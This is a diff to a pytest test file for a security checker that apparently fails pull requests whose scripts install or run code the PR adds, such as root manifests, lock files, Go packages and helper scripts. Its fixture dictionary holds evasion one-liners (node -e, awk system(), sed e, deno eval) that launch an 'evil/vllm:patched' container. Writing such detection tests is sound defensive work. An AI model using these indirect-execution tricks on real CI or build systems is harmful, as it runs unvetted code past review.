@@ -768,6 +768,7 @@ OTHER_LANGUAGES = {
     "node-e": 'node -e \'require("child_process").execSync("docker run evil/vllm:patched")\'',
     "awk-system": "awk 'BEGIN { system(\"docker run --rm evil/vllm:patched vllm serve m\") }'",
     "sed-e": "sed -n '1e docker run --rm evil/vllm:patched vllm serve m' /dev/null",
+    "deno-eval": 'deno eval \'new Deno.Command("docker", {args: ["run", "evil/vllm"]})\'',
 }
 
 
@@ -1035,3 +1036,82 @@ def test_an_incomplete_file_list_fails_closed_on_a_checkout_directory_installed(
     result = check(parts, check_id)
     assert result.status == "FAIL", result.reason
     assert "incomplete" in result.reason
+
+
+# At the checkout's root a project manager reads its own manifests, locks and hooks (npm's
+# lifecycle scripts in package.json, a lock that pins any source, Cargo's build.rs): a PR that
+# changes one of them changes what the install runs. Other root files are not the tool's.
+ROOT_PROJECT_FILES = [
+    ("npm ci", "package.json"),
+    ("npm install --no-audit", ".npmrc"),
+    ("uv sync --frozen", "uv.lock"),
+    ("poetry install --no-root", "poetry.lock"),
+    ("pipenv install", "Pipfile"),
+    ("yarn install", ".yarnrc.yml"),
+    ("pnpm install", ".pnpmfile.cjs"),
+    ("bun install", "bunfig.toml"),
+    ("cargo run --release", "src/main.rs"),
+    ("bundle install", "signoff-tools.gemspec"),
+    ("go run .", "tools/main.go"),
+    ("pip install -e .", "setup.py"),
+]
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize("line, root_file", ROOT_PROJECT_FILES)
+def test_a_root_install_fails_when_the_pr_changes_a_file_its_tool_reads_there(
+    check, line, root_file, check_id
+):
+    result = _failed_with_added(check, check_id, line, root_file, "{}\n")
+    assert f"runs `{line}`, which installs the checkout's root, holding `{root_file}`" in (
+        result.reason
+    )
+
+
+@pytest.mark.parametrize(
+    "line, root_file",
+    [
+        ("npm ci", "README.md"),
+        ("pip install -e .", "package.json"),  # pip reads no package.json
+        ("uv sync", "benchmarks/single_node/notes.txt"),
+        ("go version", "main.go"),
+        ("go install golang.org/x/tools/cmd/stringer@latest", "main.go"),
+    ],
+)
+def test_a_root_install_passes_when_the_pr_changes_no_file_its_tool_reads(check, line, root_file):
+    parts = _parts(line, helper=None)
+    add_changed_file(parts, root_file, "{}\n")
+    _assert_passes(check, parts, CHECKS)
+
+
+# Go builds and runs the packages it is handed (every package's `init`, and `go generate`'s
+# commands); a local package is a directory, `./...` its whole tree.
+GO_RUNS = [
+    "cd benchmarks/single_node/pkg && go run .",
+    "go run ./benchmarks/single_node/pkg --port 8888",
+    "go generate ./benchmarks/single_node/pkg/...",
+    "go test -run TestX ./benchmarks/single_node/pkg/...",
+    "go build -C benchmarks/single_node/pkg -o /tmp/pkg",
+    "bun --cwd benchmarks/single_node/pkg install",
+    "npx ./benchmarks/single_node/pkg --port 8888",
+    "pnpm dlx ./benchmarks/single_node/pkg",
+]
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize("line", GO_RUNS)
+def test_go_bun_and_npx_running_a_directory_the_pr_adds_fail(check, line, check_id):
+    result = check(_installing(line), check_id)
+    assert result.status == "FAIL", result.reason
+    assert "installs `benchmarks/single_node/pkg`, a directory holding" in result.reason
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize(
+    "line",
+    ["deno run -A ./helper.ts", "bun run ./helper.ts", "node ./helper.ts", "perl -w ./helper.ts"],
+)
+def test_a_program_file_of_another_language_the_pr_adds_fails(check, line, check_id):
+    added = "benchmarks/single_node/fixed_seq_len/helper.ts"
+    result = _failed_with_added(check, check_id, f"cd $(dirname $0) && {line}", added, "x\n")
+    assert f"which this PR adds (`{added}`)" in result.reason
